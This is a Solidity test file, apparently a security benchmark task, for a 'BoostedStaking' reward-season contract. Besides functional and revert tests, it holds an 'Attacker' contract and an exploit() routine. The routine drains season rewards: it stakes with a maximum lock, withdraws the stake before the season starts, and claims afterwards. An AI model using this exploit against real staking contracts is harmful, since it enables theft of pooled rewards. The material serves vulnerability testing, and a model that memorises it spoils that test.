// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./BoostedStaking.sol";
import {Ownable} from "@openzeppelin/contracts@5.4.0/access/Ownable.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import {ERC20Permit} from "@openzeppelin/contracts@5.4.0/token/ERC20/extensions/ERC20Permit.sol";

// assay-canary-16d84a56-9d4e-437f-b5a4-3fa4365ff3ba

interface Vm {
    function addr(uint256 key) external returns (address);
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Token is ERC20, ERC20Permit {
    address private minter = msg.sender;

    constructor(string memory name) ERC20(name, name) ERC20Permit(name) {}

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        _mint(to, amount);
    }
}

contract Lyn is Token("LYN") {}

contract Usd is Token("USD") {}

contract Attacker {
    BoostedStaking private staking;
    IERC20 private lyn;

    constructor(BoostedStaking staking_) {
        staking = staking_;
        lyn = staking_.lyn();
    }

    function enter() external {
        uint256 all = lyn.balanceOf(address(this));
        lyn.approve(address(staking), all);
        staking.stake(all);
        staking.extendLock(block.timestamp + staking.MAX_LOCK());
    }

    function leave() external {
        (uint256 held, , , , , ) = staking.members(address(this));
        staking.unstake(held, address(this));
    }

    function claim() external {
        staking.claim(address(this));
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_760_000_000;
    uint256 private constant BEGIN = START + 17 weeks;
    uint256 private constant KEY = 0xA9A;
    address private constant OWNER = address(0x0B0B);
    address private constant ROLF = address(0x401F);
    address private constant BOT = address(0xB07);
    address private constant TREASURY = address(0x7EA);

    Lyn private lyn;
    Usd private usd;
    BoostedStaking private staking;
    Attacker private mallory;
    address private rosa;

    // A season of ten weeks is planned seventeen weeks ahead.
    function setUp() public {
        vm.warp(START);
        lyn = new Lyn();
        usd = new Usd();
        rosa = vm.addr(KEY);
        staking = new BoostedStaking(lyn, usd, OWNER, 1_000e18, 5_000e18);
        mallory = new Attacker(staking);
        lyn.mint(rosa, 140e18);
        lyn.mint(ROLF, 100e18);
        lyn.mint(address(mallory), 100e18);
        usd.mint(OWNER, 20_000e18);
        usd.mint(address(this), 1_000e18);
        _approve(rosa);
        _approve(ROLF);
        vm.prank(rosa);
        staking.stake(100e18);
        vm.startPrank(OWNER);
        usd.approve(address(staking), type(uint256).max);
        staking.planSeason(6_048e18, BEGIN, 10 weeks);
        vm.stopPrank();
    }

    function _approve(address who) private {
        vm.prank(who);
        lyn.approve(address(staking), type(uint256).max);
    }

    function test_Regular() public {
        uint256 perWeek = 604.8e18;
        require(staking.rate() == 1e15 && staking.seasonCount() == 1 && staking.seasonLeft() == 10 weeks, "planned");
        vm.warp(BEGIN - 8 weeks);
        vm.startPrank(ROLF);
        staking.stake(50e18);
        staking.extendLock(BEGIN + 8 weeks);
        require(staking.totalWeight() == 300e18 && staking.totalStake() == 150e18, "four times fifty");
        require(staking.boostOf(ROLF) == 4e18 && staking.lockLeft(ROLF) == 16 weeks, "boost");
        vm.expectRevert(abi.encodeWithSelector(BoostedStaking.StillLocked.selector, BEGIN + 8 weeks));
        staking.unstake(1e18, ROLF);
        vm.stopPrank();
        require(staking.pendingOf(ROLF) == 0 && staking.rateOfNext() == 0, "rewards before the season");

        vm.warp(BEGIN + 3 weeks);
        require(_near(staking.pendingOf(ROLF), perWeek * 2), "two thirds of three weeks");
        require(staking.rateOfNext() > 0 && staking.seasonLeft() == 7 weeks, "running");
        vm.startPrank(OWNER);
        staking.setFee(500, TREASURY);
        vm.stopPrank();
        vm.startPrank(rosa);
        require(_near(staking.claim(rosa), (perWeek * 95) / 100), "one third of three weeks");
        vm.stopPrank();
        require(_near(usd.balanceOf(TREASURY), (perWeek * 5) / 100), "fee too high");

        // matured a week ago: the weight stays with a stake that stays
        vm.warp(BEGIN + 9 weeks);
        require(_near(staking.pendingOf(ROLF), perWeek * 6), "two thirds of nine weeks");
        require(staking.boostOf(ROLF) == 4e18 && staking.lockLeft(ROLF) == 0, "thanks for staying");
        vm.startPrank(ROLF);
        staking.unstake(50e18, ROLF);
        staking.setCollector(BOT);
        vm.stopPrank();
        vm.prank(BOT);
        require(_near(staking.collect(ROLF), (perWeek * 6 * 95) / 100), "pushed");
        require(lyn.balanceOf(ROLF) == 100e18 && _near(usd.balanceOf(ROLF), (perWeek * 6 * 95) / 100), "out");
        require(staking.totalStake() == 100e18 && staking.boostOf(ROLF) == 0, "rosa is left");

        // a stake that was never locked comes and goes with its weight
        (uint8 v, bytes32 r, bytes32 s) = _permit(40e18, BEGIN + 10 weeks);
        vm.startPrank(rosa);
        lyn.approve(address(staking), 0);
        staking.stakeWithPermit(40e18, BEGIN + 10 weeks, v, r, s);
        staking.unstake(80e18, address(0xE));
        vm.stopPrank();
        (uint256 held, uint256 weight, , , , ) = staking.members(rosa);
        require(held == 60e18 && weight == 60e18 && lyn.balanceOf(address(0xE)) == 80e18, "weight follows");
        vm.warp(BEGIN + 10 weeks);
        require(staking.seasonLeft() == 0, "over");
        _seasons();
        _settings();
    }

    // Season after season, one of them called off, one by another planner.
    function _seasons() private {
        vm.startPrank(OWNER);
        staking.planSeason(6_048e18, BEGIN + 11 weeks, 10 weeks);
        staking.cancelSeason();
        require(staking.carry() >= 6_048e18 && staking.rate() == 0, "carried over");
        staking.setPlanner(address(this), true);
        vm.stopPrank();
        usd.approve(address(staking), 1e15);
        staking.planSeason(1e15, block.timestamp, 70 days);
        (uint256 start, uint256 end, uint256 rewards, bool canceled) = staking.seasons(1);
        require(canceled && start == BEGIN + 11 weeks && end == BEGIN + 21 weeks, "recorded");
        (, end, rewards, canceled) = staking.seasons(2);
        require(!canceled && rewards >= 6_048e18 && staking.seasonCount() == 3, "of both");
        vm.warp(end);
    }

    function _settings() private {
        usd.transfer(OWNER, 1e18);
        Token stray = new Token("STRAY");
        stray.mint(address(staking), 5e18);
        vm.startPrank(OWNER);
        staking.rescue(stray, TREASURY, 5e18);
        staking.setMinStake(2e18);
        staking.setCaps(500e18, 600e18);
        staking.pause();
        require(staking.paused(), "paused");
        staking.unpause();
        staking.transferOwnership(BOT);
        vm.stopPrank();
        vm.startPrank(BOT);
        staking.acceptOwnership();
        require(staking.owner() == BOT && stray.balanceOf(TREASURY) == 5e18, "handed over");
        staking.renounceOwnership();
        vm.stopPrank();
        require(staking.minStake() == 2e18 && staking.memberCap() == 500e18 && staking.totalCap() == 600e18, "set");
    }

    function _permit(uint256 amount, uint256 deadline) private returns (uint8 v, bytes32 r, bytes32 s) {
        bytes32 what = keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");
        bytes32 hash = keccak256(abi.encode(what, rosa, address(staking), amount, 0, deadline));
        return vm.sign(KEY, keccak256(abi.encodePacked("\x19\x01", lyn.DOMAIN_SEPARATOR(), hash)));
    }

    function _near(uint256 a, uint256 b) private pure returns (bool) {
        return a <= b + 1e6 && b <= a + 1e6;
    }

    // What is refused, each from the state after setUp().

    function refuses(address who, bytes memory why) private {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function _stranger(address who) private {
        refuses(who, abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, who));
    }

    function test_RefusesStrangers() public {
        _stranger(rosa);
        staking.setMinStake(1e18);
        _stranger(rosa);
        staking.setCaps(100e18, 100e18);
        _stranger(rosa);
        staking.setFee(0, rosa);
        _stranger(rosa);
        staking.pause();
        _stranger(rosa);
        staking.rescue(IERC20(address(this)), rosa, 1);
        _stranger(rosa);
        staking.setPlanner(rosa, true);
        _stranger(rosa);
        staking.cancelSeason();
        _stranger(rosa);
        staking.transferOwnership(rosa);
        _stranger(rosa);
        staking.renounceOwnership();
        _stranger(rosa);
        staking.acceptOwnership();
        vm.prank(OWNER);
        staking.pause();
        _stranger(rosa);
        staking.unpause();
        vm.warp(BEGIN + 10 weeks);
        refuses(address(this), "not a planner");
        staking.planSeason(1e18, BEGIN + 10 weeks, 1 days);
    }

    /// Seasons come one after the other, and last.
    function test_RefusesSeasons() public {
        uint256 end = BEGIN + 10 weeks;
        vm.warp(end - 1);
        refuses(OWNER, abi.encodeWithSelector(RewardSeasons.SeasonOpen.selector, end));
        staking.planSeason(1e18, end, 1 days);
        vm.warp(end);
        refuses(OWNER, "in the past");
        staking.planSeason(1e18, end - 1, 1 days);
        refuses(OWNER, "duration");
        staking.planSeason(1e18, end, 1 days - 1);
        refuses(OWNER, "duration");
        staking.planSeason(1e18, end, 52 weeks + 1);
    }

    function test_RefusesEmptySeasons() public {
        BoostedStaking fresh = new BoostedStaking(lyn, usd, address(this), 1e18, 1e18);
        vm.expectRevert("no rewards");
        fresh.planSeason(0, block.timestamp, 1 days);
    }

    function test_RefusesToCancel() public {
        vm.warp(BEGIN);
        refuses(OWNER, abi.encodeWithSelector(RewardSeasons.SeasonStarted.selector, BEGIN));
        staking.cancelSeason();
    }

    function test_RefusesSettings() public {
        vm.startPrank(OWNER);
        vm.expectRevert("min stake");
        staking.setMinStake(1e15 - 1);
        vm.expectRevert("min stake");
        staking.setMinStake(1_000e18 + 1);
        vm.expectRevert("bad caps");
        staking.setCaps(1e18 - 1, 5e18);
        vm.expectRevert("bad caps");
        staking.setCaps(2e18, 2e18 - 1);
        vm.expectRevert("fee too high");
        staking.setFee(1_001, TREASURY);
        vm.expectRevert("treasury");
        staking.setFee(1, address(0));
        vm.expectRevert("not a stray");
        staking.rescue(lyn, OWNER, 1);
        vm.expectRevert("not a stray");
        staking.rescue(usd, OWNER, 1);
        vm.expectRevert(Pausable.ExpectedPause.selector);
        staking.unpause();
        staking.pause();
        vm.expectRevert(Pausable.EnforcedPause.selector);
        staking.pause();
        vm.stopPrank();
        vm.expectRevert("same token");
        new BoostedStaking(lyn, lyn, OWNER, 1e18, 1e18);
        vm.expectRevert("bad caps");
        new BoostedStaking(lyn, usd, OWNER, 1e18 - 1, 1e18);
        vm.expectRevert("bad caps");
        new BoostedStaking(lyn, usd, OWNER, 2e18, 2e18 - 1);
    }

    function test_RefusesWhilePaused() public {
        vm.prank(OWNER);
        staking.pause();
        vm.startPrank(rosa);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        staking.stake(1e18);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        staking.extendLock(START + 1 weeks);
        staking.unstake(100e18, rosa);
        vm.stopPrank();
    }

    /// Stakes and locks that are none, or too much.
    function test_RefusesStakes() public {
        vm.startPrank(ROLF);
        vm.expectRevert("no stake");
        staking.extendLock(START + 1 weeks);
        vm.expectRevert("too little");
        staking.stake(1e18 - 1);
        vm.stopPrank();
        vm.startPrank(rosa);
        vm.expectRevert("too little");
        staking.stake(0);
        vm.expectRevert(abi.encodeWithSelector(BoostedStaking.OverCap.selector, 1_000e18));
        staking.stake(900e18 + 1);
        vm.expectRevert("not longer");
        staking.extendLock(START);
        vm.expectRevert("too long");
        staking.extendLock(START + 16 weeks + 1);
        staking.extendLock(START + 2 weeks);
        vm.expectRevert("not longer");
        staking.extendLock(START + 1 weeks);
        vm.stopPrank();
        vm.prank(OWNER);
        staking.setCaps(120e18, 120e18);
        refuses(ROLF, abi.encodeWithSelector(BoostedStaking.OverCap.selector, 120e18));
        staking.stake(20e18 + 1);
    }

    function test_RefusesWithdrawals() public {
        vm.startPrank(rosa);
        vm.expectRevert("receiver");
        staking.unstake(1e18, address(0));
        vm.expectRevert("receiver");
        staking.unstake(1e18, address(staking));
        vm.expectRevert("receiver");
        staking.claim(address(0));
        vm.expectRevert("receiver");
        staking.claim(address(staking));
        vm.expectRevert("amount");
        staking.unstake(0, rosa);
        vm.expectRevert("amount");
        staking.unstake(100e18 + 1, rosa);
        vm.expectRevert("too little left");
        staking.unstake(99e18 + 1, rosa);
        vm.expectRevert("not the collector");
        staking.collect(rosa);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.enter();
        vm.warp(BEGIN - 1 weeks);
        mallory.leave();
        vm.warp(BEGIN + 10 weeks);
        mallory.claim();
    }

    function test_Exploit() public {
        exploit();
        require(lyn.balanceOf(address(mallory)) == 100e18, "the whole stake was back before the season");
        require(usd.balanceOf(address(mallory)) >= 4_000e18, "no rewards without a stake");
        require(!weightHasStake(), "weight went with the stake");
    }

    // Who has nothing at stake has no weight, and draws no rewards.
    function weightHasStake() public view returns (bool) {
        (uint256 held, uint256 weight, , , , ) = staking.members(address(mallory));
        return held > 0 || weight == 0;
    }

    function target() public view returns (address) {
        return address(staking);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
